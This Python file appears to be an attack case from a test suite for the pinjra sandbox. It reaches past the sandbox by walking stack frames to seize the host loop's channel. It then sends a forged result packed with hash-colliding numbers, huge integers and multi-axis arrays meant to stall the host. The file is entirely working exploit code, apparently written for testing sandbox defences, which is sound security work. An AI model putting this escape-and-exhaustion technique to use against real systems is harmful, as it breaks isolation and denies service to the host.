# attack: jail/forged-keys
# oracle: runaway
# imports: sys, pinjra
# tools:
# source: own
# note: two numbers of one hash take the host over a second to compare, two objects with arrays of such numbers any time; a
# note: column of texts and the name of a table are arrays of many axes, which pandas writes out whole
import sys

from pinjra.wire.messages import Finished

frame = sys._getframe()
while not hasattr(frame.f_locals.get("self"), "_checkpoint"):
    frame = frame.f_back
loop = frame.f_locals["self"]
prime = (1 << 61) - 1
top, bottom = ["i", f"{(1 << (1 << 20) - 1) // prime * prime + 1:x}"], (1 << 65_500) // prime * prime + 1
decimals = [["D", str(1 + n * prime)] for n in range(1, 10)]
fractions = [["Q", ["i", f"{bottom + n * prime:x}"], ["i", f"{bottom:x}"]] for n in range(1, 10)]
rows = [["R", "A", {"a": ["no", [1], ["l", each]]}, 0] for each in [*fractions[:8], *decimals[:8]]]
array = [["R", "B", {"a": ["nd", "|i1", [2] * 17, at]}, 0] for at in (0, 1)]
column, index = ["v", ["l", array[0]], "string"], ["range", 0, 1, 1, None]
value = [
    "l",
    ["s", top, *decimals[:7]],
    *[["s", *fractions, *decimals]] * 3,
    ["s", *rows],
    ["se", array[1], ["v", ["l", 1], ""], index],
    ["se", None, column, index],
]
loop._channel.send(Finished(run=loop._channel.run, value=value, blobs=(bytes(1 << 17), bytes(1 << 17))))
